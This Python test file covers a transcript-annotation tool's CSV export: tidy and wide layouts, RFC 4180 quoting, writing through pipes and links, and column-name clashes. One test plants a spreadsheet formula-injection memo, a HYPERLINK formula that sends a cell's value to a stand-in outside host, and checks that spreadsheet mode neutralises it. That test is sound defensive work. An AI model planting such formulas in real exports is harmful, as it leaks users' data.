"""CSV for R and pandas: tidy and wide, nothing dropped, RFC 4180 quoting."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

from purer_tui.core.annotation_records import AnnotationRecord
from purer_tui.core.annotations import AnnotationFile
from tests.conftest import cli


def export(study: Path, *args: str) -> list[dict[str, str]]:
    result = subprocess.run([sys.executable, "-m", "purer_tui", "export", "csv", *args], cwd=study, capture_output=True)
    assert result.returncode == 0, result.stderr
    text = result.stdout.decode("utf-8")
    if text:  # with -o the file gets it all
        header = text.split("\n", 1)[0] + "\n"
        assert header.endswith("\r\n") and text.endswith("\r\n")  # RFC 4180 records end with CRLF
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_tidy_rows_one_per_code_and_reviewed_turns_without_codes_kept(demo_study: Path) -> None:
    rows = export(demo_study, "--coder", "ana")
    assert list(rows[0]) == [
        "transcript",
        "turn",
        "start",
        "speaker",
        "role",
        "session",
        "date",
        "group",
        "coder",
        "memo",
        "code",
        "code_label",
        "code_group",
        "code_suggested",
    ]
    turn_1 = [r for r in rows if (r["transcript"], r["turn"]) == ("grp1-s01", "1")]
    assert turn_1 == [
        dict(turn_1[0], code="", code_label="", code_group="", code_suggested="")
    ]  # reviewed, no code: one row, empty code
    turn_6 = [r["code"] for r in rows if (r["transcript"], r["turn"]) == ("grp1-s01", "6")]
    assert turn_6 == ["reframing", "education"]
    row = next(r for r in rows if (r["transcript"], r["turn"]) == ("grp1-s01", "3"))
    assert (row["speaker"], row["role"], row["session"], row["start"], row["date"], row["group"]) == (
        "Participant 1",
        "participant",
        "01",
        "30.0",
        "2024-03-04",
        "1",
    )
    assert len({(r["transcript"], r["turn"]) for r in rows}) == 40  # every turn ana reviewed


def test_wide_has_a_zero_one_column_per_code(demo_study: Path) -> None:
    rows = export(demo_study, "--wide")
    assert {r["coder"] for r in rows} == {"ana", "ben"}
    assert len(rows) == 40 + 25  # one row per transcript x turn x coder
    row = next(r for r in rows if (r["transcript"], r["turn"], r["coder"]) == ("grp1-s01", "6", "ana"))
    assert (row["reframing"], row["education"], row["phenomenology"]) == ("1", "1", "0")


def test_awkward_memos_survive_quoting(demo_study: Path) -> None:
    memo = 'She said "no, not today",\nthen laughed; ünïcode 好'
    AnnotationFile.open(demo_study / "transcripts" / "grp1-s01.cal.jsonl").put(
        AnnotationRecord(2, ("education",), memo)
    )
    rows = export(demo_study, "--coder", "cal")
    assert rows[0]["memo"] == memo
    export(demo_study, "--coder", "cal", "-o", "out.csv")
    with (demo_study / "out.csv").open(encoding="utf-8", newline="") as handle:
        assert list(csv.DictReader(handle))[0]["memo"] == memo


def test_an_output_that_is_a_pipe_or_a_link_is_written_through_never_replaced(demo_study: Path, tmp_path: Path) -> None:
    """`-o` behaves as a shell redirection: a FIFO or device (think /dev/null) stays what it is,
    a link keeps pointing."""
    import os
    import stat
    import threading

    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    subprocess.run(
        [sys.executable, "-m", "purer_tui", "export", "csv", "-o", str(fifo)],
        cwd=demo_study,
        check=True,
        capture_output=True,
        timeout=60,
    )
    reader.join(timeout=30)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and received[0].startswith(b"transcript,turn,")
    real = tmp_path / "real.csv"
    real.write_text("old")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    for target in (link, "-"):
        result = subprocess.run(
            [sys.executable, "-m", "purer_tui", "export", "qdc", "-o", str(target)],
            cwd=demo_study,
            capture_output=True,
            timeout=60,
        )
        assert result.returncode == 0
    assert link.is_symlink() and real.read_bytes().startswith(b"<?xml")
    assert (
        result.stdout.startswith(b"<?xml")
        and b"Wrote standard output" in result.stderr
        and not (demo_study / "-").exists()
    )


def test_spreadsheet_mode_keeps_formulas_inert_and_the_default_keeps_the_data(demo_study: Path) -> None:
    memo = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    store = AnnotationFile.open(demo_study / "transcripts" / "grp1-s01.ana.jsonl")
    store.put(store.get(1)._replace(memo=memo))
    exact = next(
        row for row in export(demo_study, "--coder", "ana") if row["turn"] == "1" and row["transcript"] == "grp1-s01"
    )
    assert exact["memo"] == memo  # R and pandas get the data as written
    for args in ([], ["--wide"]):
        safe = next(
            row
            for row in export(demo_study, "--coder", "ana", "--spreadsheet", *args)
            if row["turn"] == "1" and row["transcript"] == "grp1-s01"
        )
        assert safe["memo"] == "'" + memo and safe["speaker"] == "Therapist"  # a spreadsheet shows it, never runs it


def _add_codes_named_like_columns(study: Path) -> None:
    codebook = study / "codebooks" / "purer.toml"
    codebook.write_text(
        codebook.read_text(encoding="utf-8")
        + '\n[codes.date]\nlabel = "Date"\ndefinition = "Talks about a date."\n'
        + '\n[codes.memo]\nlabel = "Memo"\ndefinition = "Mentions a note."\n',
        encoding="utf-8",
    )


def test_wide_code_columns_never_repeat_a_fixed_or_metadata_column(demo_study: Path) -> None:
    _add_codes_named_like_columns(demo_study)
    result = subprocess.run(
        [sys.executable, "-m", "purer_tui", "export", "csv", "--wide"], cwd=demo_study, capture_output=True
    )
    assert result.returncode == 0, result.stderr
    header = next(csv.reader(io.StringIO(result.stdout.decode("utf-8"), newline="")))
    assert len(header) == len(set(header))
    assert header.count("date") == 1 and header.count("memo") == 1  # the transcript field and the coder's memo
    assert header[-2:] == ["code:date", "code:memo"]
    rows = export(demo_study, "--wide")
    assert {row["date"] for row in rows} >= {"2024-03-04"}  # the field keeps its name and values
    assert {row["code:date"] for row in rows} == {"0"}


def test_check_warns_about_code_ids_that_are_column_names(demo_study: Path) -> None:
    _add_codes_named_like_columns(demo_study)
    result = subprocess.run([sys.executable, "-m", "purer_tui", "check"], cwd=demo_study, capture_output=True)
    out = result.stdout.decode() + result.stderr.decode()
    assert "codes.date:" in out and '"code:date"' in out and "transcript field" in out
    assert "codes.memo:" in out and '"code:memo"' in out
    assert "purer.toml:" in out  # with the file (and line) to fix


def test_the_tidy_form_says_which_codes_were_applied_from_a_suggestion(demo_study: Path) -> None:
    path = demo_study / "transcripts" / "grp1-s01.ana.jsonl"
    lines = path.read_text().splitlines()
    assert '"codes":["reframing","education"]' in lines[5]
    lines[5] = lines[5].replace(
        '"codes":["reframing","education"]', '"codes":["reframing","education"],"suggested":["education"]'
    )
    path.write_text("\n".join(lines) + "\n")
    status, out, _ = cli("export", "csv", str(demo_study), "--coder", "ana", "-o", "-")
    assert status == 0
    rows = [row for row in csv.DictReader(io.StringIO(out)) if (row["transcript"], row["turn"]) == ("grp1-s01", "6")]
    assert [(row["code"], row["code_suggested"]) for row in rows] == [("reframing", "0"), ("education", "1")]
